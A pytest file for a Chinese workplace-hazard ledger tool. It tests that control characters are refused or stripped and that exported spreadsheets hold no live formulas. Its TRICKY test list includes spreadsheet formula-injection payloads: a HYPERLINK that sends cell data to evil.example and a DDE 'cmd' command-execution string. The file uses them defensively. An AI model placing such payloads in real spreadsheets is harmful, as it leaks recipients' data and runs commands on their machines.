"""Untrusted text in and out of spreadsheets (the "Trust" issue, points 7 and 8).

A control character typed into a title once made openpyxl raise inside the daemon's
tick, so that no mail went out for anyone; a title beginning with "=" became a live
formula in the exported 台账 and in the stage report mailed to the higher authority.
These tests are those attacks: control characters are refused where text is typed and
stripped (with a warning) where it is imported, writers drop what slipped in before,
every exported cell is a value, and export → import changes nothing.
"""

from __future__ import annotations

import csv
import dataclasses
import json
from collections.abc import Callable, Iterator
from datetime import datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from structlog.testing import capture_logs

from adapters import stagebook
from adapters.daemon import Daemon
from adapters.sheetcells import csv_cell, csv_uncell
from adapters.wiring import App
from engine.clock import FakeClock
from engine.errors import InvalidCharacter
from engine.model import IMPORT_FIELDS
from engine.service import NewItem
from engine.text import clean, refuse, strip
from tests.conftest import Cli
from tests.orgfiles import address, configure_org
from tests.sheetdata import hazard_list
from tests.smtpserver import Server, use_smtp

TZ = ZoneInfo("Asia/Shanghai")
FOUND = datetime(2021, 3, 1, 9, 0, tzinfo=TZ)  # a Monday

# What a spreadsheet would run, or show as something else than was typed.
TRICKY = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看整改通知")',
    "+86 571 8888",
    "-5度冷库温度异常",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "#N/A",
    "'=已手工转义",
    "''+两个撇号",
    "=",
]


def local(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=TZ)


def _report(app: App, title: str, **kw: object) -> int:
    """An item recorded as an import records it (a hazard list may carry measures)."""
    values = {"category": "消防", "unit": "保卫处", "reporter": "郭晓明", "found_at": FOUND, "deadline": "3日内", **kw}
    prepared, entry = app.service.prepare(NewItem(title=title, **values), allowed=IMPORT_FIELDS)  # type: ignore[arg-type]
    item = app.store.add(prepared, entry)
    assert item.id is not None
    return item.id


def _smuggle(app: App, title: str, location: str, note: str, found_at: datetime = FOUND) -> int:
    """An item whose text holds control characters, stored behind the engine's back (as
    data from before the rule, or written by another tool): `report` now refuses it."""
    item, entry = app.service.prepare(NewItem(title="占位", category="消防", unit="保卫处", reporter="郭晓明",
                                            found_at=found_at, deadline="3日内"), at=found_at)
    item.title, item.location = title, location
    item.fields["measures"] = note
    entry = dataclasses.replace(entry, note=note, changes={**entry.changes, "title": [None, title]})
    saved = app.store.add(item, entry)
    assert saved.id is not None and app.store.get(saved.id).title == title
    return saved.id


def _formula_cells(path: Path) -> list[str]:
    """Every cell of every sheet that Excel would compute."""
    wb = load_workbook(path)
    found = [f"{ws.title}!{cell.coordinate}={cell.value!r}" for ws in wb.worksheets
             for row in ws.iter_rows() for cell in row if cell.data_type == "f"]
    wb.close()
    return found


def _sheet_rows(path: Path, sheet: str) -> list[dict[str, object]]:
    wb = load_workbook(path, read_only=True)
    rows = list(wb[sheet].iter_rows(values_only=True))
    wb.close()
    return [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]


# -- the rule ------------------------------------------------------------------------


def test_the_rule_refuses_controls_and_invalid_characters_but_keeps_tabs_and_newlines() -> None:
    """Tab and newline are text; CR becomes a newline; C0 and C1 controls, DEL, lone
    surrogates (undecodable bytes on a command line) and U+FFFE/U+FFFF are refused with
    the field, the character and its position."""
    assert refuse("标题", "灭火器\t过期\r\n二楼\r东侧") == "灭火器\t过期\n二楼\n东侧"
    for char in ("\x00", "\x07", "\x1b", "\x7f", "\x85", "\x9b", "\udcff", "\ufffe", "\uffff"):
        with pytest.raises(InvalidCharacter) as refused:
            refuse("位置", f"实训楼{char}一层")
        assert f"U+{ord(char):04X}（第4个字符）" in str(refused.value)
        assert str(refused.value).startswith("“位置”含有")
    assert str(InvalidCharacter("标题", "\x07", 3)) == "“标题”含有不可见的控制字符 U+0007（第3个字符），请删除后重试"
    assert strip("a\x07b\x1bc\x07\r\n") == ("abc\n", ("\x07", "\x1b"))
    assert strip("清理杂物") == ("清理杂物", ())
    assert clean("\x00=1\ufffe+1") == "=1+1"


def test_the_csv_prefix_is_undone_exactly() -> None:
    """A would-be formula gets one leading apostrophe in CSV and loses exactly that one on
    import; a text that already starts with apostrophes before such a character gets one
    more, so every string comes back as it was, and no cell starts with = + - @ tab CR LF."""
    samples = [*TRICKY, "'", "''", "'普通文字", "普通文字", "", "1+1", " =1", "\n+1", "'\t@x"]
    for text in samples:
        written = csv_cell(text)
        assert written[:1] not in ("=", "+", "-", "@", "\t", "\r", "\n")
        assert csv_uncell(written) == text
    assert csv_cell("=1+1") == "'=1+1" and csv_cell("'=1+1") == "''=1+1" and csv_cell("'a") == "'a"
    assert csv_cell("\r=1") == "'\n=1"  # a CR is stored as a newline anyway (engine.text)
    assert csv_cell(42) == 42


# -- refused where it is typed ------------------------------------------------------------


def test_report_and_fire_refuse_a_control_character_and_store_nothing(site: Path) -> None:
    """`report` with a bell in its title, location, note or a --set value, and `fire`
    with one in its note or --set, are refused (exit 2) with a message naming the field
    and the character; nothing is stored, no ledger entry is written."""
    run = Cli(site)
    base = ["report", "--category", "消防", "--unit", "保卫处", "--reporter", "郭晓明"]
    cases = [
        (["--title", "灭火器\x07过期"], "“标题”含有不可见的控制字符 U+0007"),
        (["--title", "灭火器过期", "--location", "实训楼\x1b[2J一层"], "“位置”含有不可见的控制字符 U+001B"),
        (["--title", "灭火器过期", "--note", "见\x00附件"], "“备注”含有不可见的控制字符 U+0000"),
        (["--title", "灭火器过期", "--set", "description=更换\x85灭火器"], "“描述”含有不可见的控制字符 U+0085"),
        (["--title", "灭火器过期", "--category", "消\x7f防"], "“类别”含有不可见的控制字符 U+007F"),
    ]
    for args, message in cases:
        err = run(*base, *args, code=2).stderr
        assert message in err, err
    assert json.loads(run("list", "--json").stdout) == []

    item = json.loads(run(*base, "--title", "灭火器过期", "--json").stdout)["id"]
    for args, message in [(["--note", "已\x08处理"], "“备注”含有不可见的控制字符 U+0008"),
                          (["--set", "responsible=马建军", "--set", "evidence=照片\x07"], "“整改佐证”含有")]:
        err = run("fire", str(item), "assign", "--actor", "周安宁", *args, code=2).stderr
        assert message in err, err
    shown = json.loads(run("show", str(item), "--json").stdout)
    assert shown["state"] == "reported" and len(shown["history"]) == 1


# -- stripped where it is imported ------------------------------------------------------


def test_an_imported_list_loses_its_control_characters_with_a_warning_per_cell(site: Path, tmp_path: Path) -> None:
    """A CSV hazard list with a bell and an escape sequence in its cells, and an .xlsx one
    with DEL and C1 controls (XML cannot hold C0 ones), import with the characters removed
    and one warning per cell naming file, sheet, row and column."""
    run = Cli(site)
    path = tmp_path / "排查表.csv"
    path.write_text("隐患名称,责任单位,位置,发现时间,整改措施\n"
                    "消防通道\x07堵塞,保卫处,实训楼\x1b[31m一层,2021-03-01,清理\n"
                    "灭火器过期,保卫处,B201,2021-03-02,更换\n", encoding="utf-8")
    out = json.loads(run("import", str(path), "--json").stdout)
    assert out["summary"]["new"] == 2
    assert f"{path} 工作表“排查表” 第2行 “隐患名称”列：删除了不可见的控制字符 U+0007，请核对导入的内容" in out["warnings"]
    assert f"{path} 工作表“排查表” 第2行 “位置”列：删除了不可见的控制字符 U+001B，请核对导入的内容" in out["warnings"]
    assert len([w for w in out["warnings"] if "控制字符" in w]) == 2
    items = {i["title"]: i for i in json.loads(run("list", "--json").stdout)}
    shown = json.loads(run("show", str(items["消防通道堵塞"]["id"]), "--json").stdout)
    assert shown["location"] == "实训楼[31m一层"

    book = hazard_list(tmp_path / "隐患.xlsx", [["H-1", "配电箱\x7f未上锁", "其他", "一般", "总务处", "食堂\x85后厨",
                                                "2021-03-03", "3日内", "加锁"]])
    out = json.loads(run("import", str(book), "--json").stdout)
    assert out["summary"]["new"] == 1
    warned = [w for w in out["warnings"] if "控制字符" in w]
    assert warned == [f"{book} 工作表“隐患清单” 第2行 “隐患名称”列：删除了不可见的控制字符 U+007F，请核对导入的内容",
                      f"{book} 工作表“隐患清单” 第2行 “位置”列：删除了不可见的控制字符 U+0085，请核对导入的内容"]
    assert "配电箱未上锁" in {i["title"] for i in json.loads(run("list", "--json").stdout)}


def test_an_xlsx_import_tells_a_formula_from_a_text_beginning_with_equals(run: Cli, tmp_path: Path) -> None:
    """A text cell "=1+1" (as the export writes a title) imports as that text; a formula
    cell, and an array formula, in the same position are still refused as formulas."""
    from openpyxl import Workbook
    from openpyxl.worksheet.formula import ArrayFormula

    def book(name: str, put: Callable[[object], None]) -> Path:
        wb = Workbook()
        ws = wb.active
        ws.append(["隐患名称", "责任单位", "发现时间"])
        ws.append([None, "保卫处", "2021-03-01"])
        put(ws["A2"])
        wb.save(tmp_path / name)
        return tmp_path / name

    def text(cell: object) -> None:
        cell.value, cell.data_type = "=1+1", "s"  # type: ignore[attr-defined]

    out = json.loads(run("import", str(book("text.xlsx", text)), "--json").stdout)
    assert [r["title"] for r in out["rows"]] == ["=1+1"]
    for name, value in (("formula.xlsx", "=1+1"), ("array.xlsx", ArrayFormula("A2:A2", "=SUM(B1:B1)"))):
        def formula(cell: object, value: object = value) -> None:
            cell.value = value  # type: ignore[attr-defined]

        err = run("import", str(book(name, formula)), code=2).stderr
        assert "第2行 “隐患名称”列：单元格是公式" in err, err


# -- every exported cell a value; export → import changes nothing --------------------------


@pytest.fixture
def tricky_ledger(app: App) -> dict[int, dict[str, object]]:
    """Items whose title, location, measures and report note are the tricky texts; what
    the store holds for each (a leading tab is trimmed when reported)."""
    ids = []
    for n, text in enumerate(TRICKY):
        ids.append(_report(app, text, location=TRICKY[-1 - n], fields={"measures": text, "description": f"{text}描述"},
                           note=text))
    stored = {i: app.store.get(i) for i in ids}
    assert stored[ids[0]].title == "=1+1" and stored[ids[5]].title == "=cmd|' /C calc'!A0"
    return {i: {"title": s.title, "location": s.location, **s.fields, "version": s.version} for i, s in stored.items()}


def _unchanged(app: App, before: dict[int, dict[str, object]]) -> None:
    after = {i: app.store.get(i) for i in before}
    assert {i: {"title": s.title, "location": s.location, **s.fields, "version": s.version}
            for i, s in after.items()} == before


def test_an_exported_ledger_holds_no_formula_and_imports_back_unchanged(app: App, tricky_ledger: dict,
                                                                     tmp_path: Path) -> None:
    """Titles, locations, measures and notes beginning with = + - @ (or a tab before
    them), "#N/A" and apostrophes: in the 台账 and 历史记录 sheets every cell is a value
    holding exactly the stored text, and the 台账 imports back with every row 不变."""
    run = Cli(app.config.root)
    ledger = tmp_path / "台账.xlsx"
    run("export", str(ledger), "--at", "2021-03-10")
    assert _formula_cells(ledger) == []
    rows = {r["台账编号"]: r for r in _sheet_rows(ledger, "台账")}
    for item_id, stored in tricky_ledger.items():
        row = rows[item_id]
        assert (row["标题"], row["位置"], row["整改措施"], row["描述"]) == (
            stored["title"], stored["location"], stored["measures"], stored["description"])
    assert [r["备注"] for r in _sheet_rows(ledger, "历史记录")] == TRICKY

    again = json.loads(run("import", str(ledger), "--json").stdout)
    assert again["summary"] == {"new": 0, "changed": 0, "unchanged": len(TRICKY), "kept": 0}
    _unchanged(app, tricky_ledger)


def test_a_csv_export_neutralises_formulas_and_imports_back_unchanged(app: App, tricky_ledger: dict,
                                                                   tmp_path: Path) -> None:
    """The three CSV files start no cell with = + - @ tab or CR (the neutralising
    apostrophe goes first); importing the 台账 CSV takes it off again: every row 不变."""
    run = Cli(app.config.root)
    path = tmp_path / "ledger.csv"
    run("export", str(path), "--at", "2021-03-10")
    for part in (path, tmp_path / "ledger-历史记录.csv", tmp_path / "ledger-按单位汇总.csv"):
        with part.open(encoding="utf-8-sig", newline="") as f:
            cells = [cell for row in csv.reader(f) for cell in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], part
    with path.open(encoding="utf-8-sig", newline="") as f:
        titles = [row[3] for row in csv.reader(f)][1:]
    assert "'=1+1" in titles and "''=已手工转义" in titles and "'-5度冷库温度异常" in titles and "#N/A" in titles

    again = json.loads(run("import", str(path), "--json").stdout)
    assert again["summary"] == {"new": 0, "changed": 0, "unchanged": len(TRICKY), "kept": 0}
    _unchanged(app, tricky_ledger)


@pytest.mark.slow
def test_the_stage_report_workbook_holds_no_formula(app: App, tricky_ledger: dict, tmp_path: Path) -> None:
    """The workbook mailed to the higher authority lists the overdue items by title: each
    is text as stored, and no cell of any sheet is a formula."""
    app.service.clock.set(local("2021-04-02T09:00"))
    run = Cli(app.config.root)
    out = json.loads(run("stage-report", "--period", "2021Q1", "--out", str(tmp_path), "--json").stdout)
    workbook = Path(out["files"][0])
    assert _formula_cells(workbook) == []
    overdue = {r["编号"]: r["标题"] for r in _sheet_rows(workbook, "逾期事项")}
    assert overdue == {i: s["title"] for i, s in tricky_ledger.items()}


@pytest.mark.slow
@pytest.mark.tampers
def test_writers_drop_control_characters_that_slipped_in_before(app: App, tmp_path: Path) -> None:
    """An item stored with a bell in its title, an escape in its location and a backspace in
    its note (data from before the rule): `export` (.xlsx and .csv) and `stage-report`
    write them without those characters instead of crashing."""
    item = _smuggle(app, "消防通道\x07堵塞", "实训楼\x1b一层", "已\x08通知")
    clean_one = _report(app, "灭火器过期")
    run = Cli(app.config.root)
    run("export", str(tmp_path / "台账.xlsx"))
    rows = {r["台账编号"]: r for r in _sheet_rows(tmp_path / "台账.xlsx", "台账")}
    assert (rows[item]["标题"], rows[item]["位置"], rows[item]["整改措施"]) == ("消防通道堵塞", "实训楼一层", "已通知")
    assert rows[clean_one]["标题"] == "灭火器过期"
    assert [r["备注"] for r in _sheet_rows(tmp_path / "台账.xlsx", "历史记录") if r["台账编号"] == item] == ["已通知"]

    run("export", str(tmp_path / "台账.csv"))
    text = (tmp_path / "台账.csv").read_text(encoding="utf-8-sig") + (tmp_path / "台账-历史记录.csv").read_text(
        encoding="utf-8-sig")
    assert "消防通道堵塞" in text and not [c for c in text if ord(c) < 0x20 and c not in "\r\n"]

    app.service.clock.set(local("2021-04-02T09:00"))
    out = json.loads(run("stage-report", "--period", "2021Q1", "--out", str(tmp_path / "r"), "--json").stdout)
    overdue = {r["编号"]: r["标题"] for r in _sheet_rows(Path(out["files"][0]), "逾期事项")}
    assert overdue[item] == "消防通道堵塞"


# -- the tick goes on ---------------------------------------------------------------------


class Site:
    """A daemon on a fake clock mailing a recording SMTP server, with the rules' quarterly
    stage report (the campaign's report obligations left out: they only add tasks)."""

    def __init__(self, site: Path, server: Server) -> None:
        self.server = server
        self.clock = FakeClock(FOUND)
        self.daemon = Daemon(site, self.clock)
        self.daemon.scheduler.tick_seconds = 86400
        self.app = self.daemon.app

    def tick(self, when: str) -> list[tuple[str, str]]:
        """(recipient, subject) of every message the tick delivered."""
        self.clock.set(local(when))
        before = len(self.server.handler.received)
        assert self.daemon.tick(self.clock.now()) is not None
        return [(r.rcpt_tos[0], str(r.message["Subject"])) for r in self.server.handler.received[before:]]

    def reports(self, mails: list[tuple[str, str]]) -> list[str]:
        return sorted(to for to, subject in mails if subject.startswith("【阶段整治情况】"))

    def alerts(self, mails: list[tuple[str, str]]) -> list[str]:
        return [subject for to, subject in mails if to == "admin@example.org"]


@pytest.fixture
def daemon_site(site: Path, serve: Callable[..., Server]) -> Iterator[Site]:
    server = serve()
    use_smtp(site, server)
    campaign = site / "rules" / "campaign.yaml"
    text = campaign.read_text(encoding="utf-8")
    campaign.write_text(text[:text.index("obligations:")] + text[text.index("# 阶段报告"):], encoding="utf-8")
    configure_org(site)  # the higher authority is mailed only by a configured site
    s = Site(site, server)
    yield s
    s.daemon.close()


MA = address("ma.jianjun")  # 马建军, responsible for the hazard reminded
Q4_RECIPIENTS = [address("anquan-chu"), address("lin.zhengdao"), address("zongzhiban")]


def _in_use_in_2020q4(s: Site) -> int:
    """A hazard recorded in December 2020: the site was in use in 2020Q4, so its stage
    report is owed at the first tick of 2021."""
    q4 = local("2020-12-01T09:00")
    prepared, entry = s.app.service.prepare(NewItem(title="楼梯扶手松动", category="建筑与施工", unit="总务处",
                                                    reporter="郭晓明", found_at=q4), at=q4)
    item = s.app.store.add(prepared, entry)
    assert item.id is not None
    return item.id


def _reminded_hazard(s: Site) -> int:
    """A 3-day hazard assigned to 马建军: its reminders fall due on 3 March."""
    item = _report(s.app, "消防通道堆放杂物")
    s.app.service.fire(item, "assign", "赵卫东", {"responsible": "马建军"}, at=FOUND + timedelta(hours=1))
    return item


@pytest.mark.slow
def test_a_control_character_in_the_database_no_longer_stops_the_tick(daemon_site: Site) -> None:
    """An item reported in 2020 whose title holds a bell (stored behind the engine's
    back) is overdue in the 2020Q4 stage report owed at the first tick; that tick also
    owes 马建军 a reminder, and the item's own escalations. All go out, and the report's
    workbook lists the title without the bell."""
    s = daemon_site
    bad = _smuggle(s.app, "配电箱\x07未上锁", "食堂\x1b后厨", "已\x08通知", found_at=local("2020-12-01T09:00"))
    _reminded_hazard(s)
    with capture_logs() as logs:
        mails = s.tick("2021-03-03T09:00")
    assert not [e for e in logs if e["log_level"] == "error"], logs
    assert MA in [to for to, _ in mails]
    assert address("zhao.weidong") in [to for to, _ in mails]  # the unit head, for the bad item
    assert s.reports(mails) == Q4_RECIPIENTS
    report = next(r.message for r in s.server.handler.received if str(r.message["Subject"]).startswith("【阶段整治情况】"))
    workbook = next(p for p in report.iter_attachments() if p.get_filename() == "阶段整治情况-2020Q4.xlsx")
    path = Path(s.app.config.root) / "q4.xlsx"
    path.write_bytes(workbook.get_content())
    overdue = {r["编号"]: r["标题"] for r in _sheet_rows(path, "逾期事项")}
    assert overdue[bad] == "配电箱未上锁"
    assert _formula_cells(path) == []


@pytest.mark.slow
def test_a_failing_stage_report_is_alerted_once_and_retried_while_reminders_go_on(
        daemon_site: Site, monkeypatch: pytest.MonkeyPatch, info_logging: None) -> None:
    """While the stage report cannot be built the tick still delivers 马建军's reminder;
    the failure is logged with the report and its period, the administrator is told once
    (not at every tick), and the first tick after the fault is gone sends the report."""
    s = daemon_site
    _in_use_in_2020q4(s)
    _reminded_hazard(s)

    def broken(*_: object) -> bytes:
        raise OSError("磁盘已满")

    monkeypatch.setattr(stagebook, "workbook_bytes", broken)
    with capture_logs() as logs:
        first = s.tick("2021-03-03T09:00")
    assert [to for to, _ in first if to == MA] == [MA]
    assert s.reports(first) == []
    assert s.alerts(first) == ["【系统告警】演示学校：阶段报告“阶段整治情况报告”（2020年第四季度）未能生成，将自动重试"]
    alert = next(r.message for r in s.server.handler.received if r.rcpt_tos[0] == "admin@example.org")
    body = alert.get_body(("plain",)).get_content()
    assert "OSError: 磁盘已满" in body and "提醒和督办邮件照常发送" in body and "拒绝了一次规则文件修改" not in body
    failed = [e for e in logs if e["event"] == "stage_report_failed"]
    assert [(e["report"], e["period"]) for e in failed] == [("阶段整治情况报告", "2020Q4")]

    again = s.tick("2021-03-03T10:00")
    assert s.reports(again) == [] and s.alerts(again) == []

    monkeypatch.undo()
    with capture_logs() as logs:
        fixed = s.tick("2021-03-03T11:00")
    assert s.reports(fixed) == Q4_RECIPIENTS and s.alerts(fixed) == []
    assert [e["period"] for e in logs if e["event"] == "stage_report_recovered"] == ["2020Q4"]
    assert s.reports(s.tick("2021-03-03T12:00")) == []  # sent once


def test_periodic_work_that_raises_does_not_stop_the_tick(daemon_site: Site) -> None:
    """Whatever the once-per-period work raises, the tick's reminders are still delivered."""
    s = daemon_site
    _reminded_hazard(s)

    def broken(_: datetime) -> int:
        raise ValueError("规则文件读取异常")

    s.daemon.scheduler.periodic = broken
    with capture_logs() as logs:
        mails = s.tick("2021-03-03T09:00")
    assert MA in [to for to, _ in mails]
    assert [e["event"] for e in logs if e["log_level"] == "error"] == ["periodic_failed"]
